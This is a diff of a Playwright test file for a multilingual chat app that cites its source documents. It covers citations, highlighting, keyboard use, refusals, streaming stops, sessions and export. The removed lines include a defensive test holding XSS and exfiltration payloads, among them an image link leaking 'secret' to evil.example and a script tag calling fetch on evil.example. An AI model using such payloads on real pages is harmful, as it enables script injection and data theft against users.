@@ -1,10 +1,14 @@
 """The chat in a real browser: people type, read and click."""
 
+import re
+import threading
+
 import pytest
+from playwright.sync_api import expect
 
-from assistant import ScriptedChat
+from assistant import Finish, ScriptedChat
 
-from .conftest import ask
+from .conftest import PATIENCE, ask, go
 
 pytestmark = pytest.mark.browser
 
@@ -14,110 +18,255 @@ QUESTIONS = {
     "de": "Wie viele Milliarden Dollar investiert die Bank of China?",
     "it": "Quanti miliardi di dollari investirà Bank of China?",
 }
+BRIDGE = "The bridge over the river was opened in May. It cost 12 million euros.\n"
+
+
+@pytest.fixture
+def bridge(tmp_path):
+    folder = tmp_path / "docs"
+    folder.mkdir()
+    (folder / "bridge.txt").write_text(BRIDGE, encoding="utf-8")
+    return folder
 
 
 def test_a_question_in_each_language_is_answered_with_its_source(serve, visit, seeds):
     page = visit(serve(seeds))
-    for number, (language, question) in enumerate(QUESTIONS.items(), start=1):
-        ask(page, question)
-        turn = page.locator(".turn").nth(number - 1)
-        assert turn.get_attribute("lang") == language
+    for language, question in QUESTIONS.items():
+        turn = ask(page, question)
+        assert turn.locator(".answer").get_attribute("lang") == language
         assert "138" in turn.locator(".answer").inner_text()
-        assert "138 milliards de dollars" in page.locator("#shelf mark").first.inner_text()
+        turn.locator(".cite").first.click()
+        page.locator("#source mark.here").first.wait_for()
+        assert "138 milliards de dollars" in page.locator("#source mark.here").first.inner_text()
     assert page.foreign == []
+    assert page.faults == []
 
 
-def test_a_click_on_a_citation_opens_its_place(serve, visit, seeds):
+def test_a_citation_opens_its_document_at_the_very_words(serve, visit, seeds):
+    page = visit(serve(seeds), viewport={"width": 1100, "height": 500})
+    turn = ask(page, "Che cosa ha ordinato Putin a Sberbank?")
+    cites = turn.locator(".cite")
+    cites.last.click()
+    here = page.locator("#source mark.here").first
+    here.wait_for()
+    answer = turn.evaluate("turn => turn.answer")
+    last = answer["citations"][-1]
+    shown = "".join(page.locator("#source mark.here").all_inner_texts())
+    assert re.sub(r"^\d+", "", shown).split() == last["quote"].split()
+    box = here.bounding_box()
+    assert 0 < box["y"] < 500
+    head = page.locator("#source .place").inner_text()
+    assert last["file"] in head
+    assert "Italian" in head
+    assert "line" in head
+    assert page.locator("#source .text").get_attribute("lang") == "it"
+    assert page.locator("#source .text").inner_text().count("\n") > 3  # the document, not a snippet
+    in_file = [c for c in answer["citations"] if c["file"] == last["file"]]
+    assert page.locator("#source mark sup").count() == len(in_file)
+
+
+def test_hover_and_focus_show_the_quote(serve, visit, seeds):
     page = visit(serve(seeds))
-    ask(page, QUESTIONS["fr"])
-    link = page.locator(".turn a.cite").first
-    link.click()
-    card = page.locator(".card:target")
-    assert card.count() == 1
-    assert card.locator("h2 span").inner_text() == link.inner_text()
-    assert "003_8240679369d577f5.txt:2" in card.inner_text()
+    turn = ask(page, QUESTIONS["fr"])
+    turn.locator(".cite").first.hover()
+    assert "138 milliards de dollars" in page.locator("#peek").inner_text()
+    page.mouse.move(5, 5)
+    page.locator("#peek").wait_for(state="hidden")
+    turn.locator(".cite").first.focus()
+    assert "138 milliards de dollars" in page.locator("#peek").inner_text()
 
 
-def test_a_refusal_shows_what_comes_nearest_and_cites_nothing(serve, visit, seeds):
+def test_keys_go_through_the_sources_and_close_them(serve, visit, seeds):
     page = visit(serve(seeds))
-    ask(page, "Quanto è alto il Monte Bianco?")
-    assert page.locator(".answer.declined").inner_text().startswith("I documenti non rispondono")
-    assert page.locator("a.cite").count() == 0
-    assert page.locator(".nearest li").count() > 0
+    ask(page, "Che cosa ha ordinato Putin a Sberbank?")
+    page.locator(".cite").first.click()
+    page.locator("#source mark.here").first.wait_for()
+    assert page.locator("#which").inner_text() == "Source 1 · 1/2"
+    page.keyboard.press("n")
+    expect(page.locator("#which")).to_have_text("Source 2 · 2/2", timeout=PATIENCE)
+    page.keyboard.press("p")
+    expect(page.locator("#which")).to_have_text("Source 1 · 1/2", timeout=PATIENCE)
+    page.keyboard.press("Escape")
+    page.locator("#panel").wait_for(state="hidden")
+    page.keyboard.press("/")
+    assert page.evaluate("document.activeElement.id") == "box"
 
 
-def test_what_is_not_supported_is_marked_with_its_reason(serve, visit, tmp_path):
-    (tmp_path / "docs").mkdir()
-    text = "The bridge over the river was opened in May. It cost 12 million euros.\n"
-    (tmp_path / "docs" / "bridge.txt").write_text(text, encoding="utf-8")
-    model = ScriptedChat(["It was opened in May [1]. It cost 21 million euros [1]."])
-    page = visit(serve(tmp_path / "docs", model))
-    ask(page, "What did the bridge cost?")
-    doubt = page.locator(".doubt")
+def test_furniture_is_grey(serve, visit, seeds):
+    page = visit(serve(seeds))
+    ask(page, QUESTIONS["fr"]).locator(".cite").first.click()
+    grey = page.locator("#source .furniture").first
+    grey.wait_for()
+    colour = "e => getComputedStyle(e).color"
+    assert grey.evaluate(colour) != page.locator("#source .text").evaluate(colour)
+
+
+def test_a_refusal_shows_what_comes_nearest_and_opens_it(serve, visit, seeds):
+    page = visit(serve(seeds))
+    turn = ask(page, "Quanto è alto il Monte Bianco?")
+    assert turn.locator(".answer.declined").inner_text().startswith("I documenti non rispondono")
+    assert turn.locator(".cite").count() == 0
+    turn.locator(".near").first.click()
+    page.locator("#source mark.here").first.wait_for()
+
+
+def test_what_the_source_contradicts_is_marked_with_its_reason(serve, visit, bridge):
+    said = "It was opened in May [1]. It cost 21 million euros [1]."
+    page = visit(serve(bridge, ScriptedChat([said])))
+    turn = ask(page, "What did the bridge cost?")
+    doubt = turn.locator(".doubt")
     assert doubt.count() == 1
-    assert "21 million" in doubt.inner_text()
-    assert doubt.get_attribute("title")
+    reason = doubt.locator(".reason")
+    assert not reason.is_visible()
+    doubt.hover()
+    assert "12 million" in reason.inner_text()
+    page.mouse.move(5, 5)
+    reason.wait_for(state="hidden")
+    doubt.locator(".why").focus()  # by the keyboard
+    page.keyboard.press("Enter")
+    assert reason.is_visible()
+    assert doubt.locator(".why").get_attribute("aria-expanded") == "true"
+    assert "1 of 2" in turn.locator(".trust").inner_text()
 
 
-@pytest.mark.parametrize(
-    "payload",
-    [
-        "![x](https://evil.example/?q=secret)",
-        "<img src=https://evil.example/x.png onerror=alert(1)>",
-        "<script>fetch('https://evil.example')</script>",
-        "[click](javascript:alert(1))",
-    ],
-    ids=["G02-image", "G02-html", "G02-script", "G03-link"],
-)
-def test_nothing_a_model_or_a_document_says_leaves_the_page(serve, visit, tmp_path, payload):
-    (tmp_path / "docs").mkdir()
-    text = f"The bridge was opened in May. {payload}\nIt cost 12 million euros.\n"
-    (tmp_path / "docs" / "bridge.txt").write_text(text, encoding="utf-8")
-    model = ScriptedChat([f"The bridge was opened in May [1]. {payload} [1]"])
-    page = visit(serve(tmp_path / "docs", model))
-    alerts = []
-    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
-    ask(page, "When was the bridge opened?")
-    page.wait_for_timeout(300)
-    assert page.foreign == []
-    assert alerts == []
-    assert page.locator("#talk img, #talk script, #shelf img, #shelf script").count() == 0
-    for link in page.locator("#talk a, #shelf a").all():
-        assert link.get_attribute("href").startswith("#t")
+def test_a_follow_up_shows_the_question_that_was_searched_for(serve, visit, seeds):
+    page = visit(serve(seeds))
+    ask(page, QUESTIONS["en"])
+    turn = ask(page, "And in 2025?")
+    assert "Bank of China" in turn.locator(".asked").inner_text()
 
 
-def test_a_failing_model_is_one_plain_sentence(serve, visit, seeds):
+def test_a_failing_model_is_one_plain_sentence_and_the_question_is_kept(serve, visit, seeds):
     page = visit(serve(seeds, "m", base_url="http://127.0.0.1:9/v1", deadline=3.0))
-    page.fill("#box textarea", "Was ist los?")
-    page.press("#box textarea", "Enter")
-    page.wait_for_selector(".trouble", timeout=20_000)
+    page.fill("#box", "Was ist los?")
+    page.press("#box", "Enter")
+    page.locator(".trouble").wait_for()
     assert "127.0.0.1:9" in page.locator(".trouble").inner_text()
-    assert page.locator("#box textarea").input_value() == "Was ist los?"
+    assert page.locator("#box").input_value() == "Was ist los?"
 
 
-def test_two_readers_do_not_see_each_other(serve, visit, seeds):
+def test_suggested_questions_can_be_asked(serve, visit, seeds):
+    page = visit(serve(seeds), locale="de-DE")
+    first = page.locator(".suggestion").first
+    first.wait_for()
+    question = first.inner_text()
+    first.click()
+    page.locator(".turn[data-settled]").wait_for()
+    assert page.locator(".turn .question").inner_text() == question
+    assert page.locator(".turn .answer.declined").count() == 0
+
+
+class Slow:
+    """A model that writes a word whenever it is told to, for as long as it is."""
+
+    name = "slow"
+
+    def __init__(self, go_on):
+        self.go_on = go_on
+        self.closed = 0
+
+    def reply(self, request):
+        try:
+            yield "It was opened in May [1]. "
+            while not self.go_on.wait(0.05):
+                yield "word "
+            yield Finish(requests=1)
+        finally:
+            self.closed += 1
+
+
+def test_stop_in_mid_stream_keeps_what_was_written_and_lets_the_model_go(serve, visit, bridge):
+    model = Slow(threading.Event())
+    page = visit(serve(bridge, model))
+    page.fill("#box", "When was the bridge opened?")
+    page.press("#box", "Enter")
+    expect(page.locator(".answer")).to_contain_text("word", timeout=PATIENCE)
+    page.click("#stop")
+    page.locator(".turn .note").wait_for()
+    assert "not checked" in page.locator(".turn .note").inner_text()
+    assert "opened in May" in page.locator(".turn .answer").inner_text()
+    _until(page, lambda: model.closed == 1)
+    model.go_on.set()
+    assert "opened in May" in ask(page, "When was the bridge opened?").inner_text()
+
+
+def test_H03_a_browser_that_closes_in_mid_stream_lets_the_model_go(serve, visit, bridge):
+    model = Slow(threading.Event())
+    address = serve(bridge, model)
+    page, other = visit(address), visit(address)
+    page.fill("#box", "When was the bridge opened?")
+    page.press("#box", "Enter")
+    expect(page.locator(".answer")).to_contain_text("word", timeout=PATIENCE)
+    page.close()
+    _until(other, lambda: model.closed == 1)
+
+
+def _until(page, condition):
+    """Wait for something that happens in the server."""
+    for _ in range(600):
+        if condition():
+            return
+        page.wait_for_timeout(50)
+    raise AssertionError("it did not happen")
+
+
+def test_H02_two_readers_do_not_see_each_other(serve, visit, seeds):
     address = serve(seeds)
     first, second = visit(address), visit(address)
-    ask(first, QUESTIONS["de"])
-    ask(second, QUESTIONS["it"])
-    assert first.locator(".question").all_inner_texts() == [QUESTIONS["de"]]
-    assert second.locator(".question").all_inner_texts() == [QUESTIONS["it"]]
+    for page, language in ((first, "de"), (second, "it")):  # both are being answered at once
+        page.fill("#box", QUESTIONS[language])
+        page.press("#box", "Enter")
+    for page, language in ((first, "de"), (second, "it")):
+        page.locator(".turn[data-settled]").wait_for()
+        assert page.locator(".question").all_inner_texts() == [QUESTIONS[language]]
     first.click("#new")
-    first.wait_for_selector(".welcome")
+    first.locator(".welcome").wait_for()
+    assert first.locator(".kept").all_inner_texts() == [QUESTIONS["de"]]
     assert second.locator(".turn").count() == 1
 
 
-def test_on_a_phone_nothing_is_wider_than_the_screen(serve, visit, seeds):
-    page = visit(serve(seeds), viewport={"width": 390, "height": 844}, color_scheme="dark")
-    ask(page, QUESTIONS["en"])
-    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+def test_H02_two_tabs_keep_their_own_conversation_and_a_reload_shows_it(serve, visit, seeds):
+    address = serve(seeds)
+    first = visit(address)
+    ask(first, QUESTIONS["fr"])
+    second = visit(address, first.context)
+    ask(second, QUESTIONS["en"])
+    first.reload()
+    first.wait_for_selector("#attesto[data-ready]")
+    assert first.locator(".question").all_inner_texts() == [QUESTIONS["fr"]]
+    assert first.locator(".kept").count() == 2
+    first.locator(".turn .cite").first.click()  # what was kept is as live as it was
+    first.locator("#source mark.here").first.wait_for()
 
 
-def test_the_named_endpoint_gives_the_contracts_json(serve, seeds):
-    from gradio_client import Client
+def test_a_kept_answer_says_when_its_document_has_changed(serve, visit, bridge):
+    page = visit(serve(bridge))
+    ask(page, "What did the bridge cost?")
+    (bridge / "bridge.txt").write_text("It is about something else now.\n", encoding="utf-8")
+    go(page, "documents")
+    page.click("#read")
+    page.get_by_text("1 changed").wait_for()
+    page.reload()
+    page.locator(".note.gone").wait_for()
 
-    answer = Client(serve(seeds), verbose=False).predict(QUESTIONS["fr"], api_name="/ask")
-    assert answer["language"] == "fr"
-    cited = answer["citations"][0]
-    source = (seeds / cited["file"]).read_text(encoding="utf-8")
-    assert source[cited["start"] : cited["end"]] == cited["quote"]
+
+@pytest.mark.parametrize("kind", ["html", "md", "json"])
+def test_a_conversation_is_exported_with_its_quotes(serve, visit, seeds, kind):
+    page = visit(serve(seeds))
+    ask(page, QUESTIONS["fr"])
+    with page.expect_download() as download:
+        page.click(f"[data-export={kind}]")
+    assert download.value.suggested_filename == f"attesto.{kind}"
+    assert "138 milliards de dollars" in download.value.path().read_text("utf-8")
+
+
+def test_a_thumb_and_its_reason_are_kept_beside_the_index(serve, visit, seeds, tmp_path):
+    page = visit(serve(seeds))
+    turn = ask(page, QUESTIONS["en"])
+    turn.locator(".unhelpful").click()
+    turn.get_by_label("The source does not say that").check()
+    turn.locator(".judge input[type=text]").fill("line 2")
+    turn.locator(".judge button").click()
+    turn.get_by_text("Thank you").wait_for()
+    line = (tmp_path / "store" / "feedback.jsonl").read_text("utf-8")
+    assert '"verdict": "bad", "reason": "source: line 2"' in line
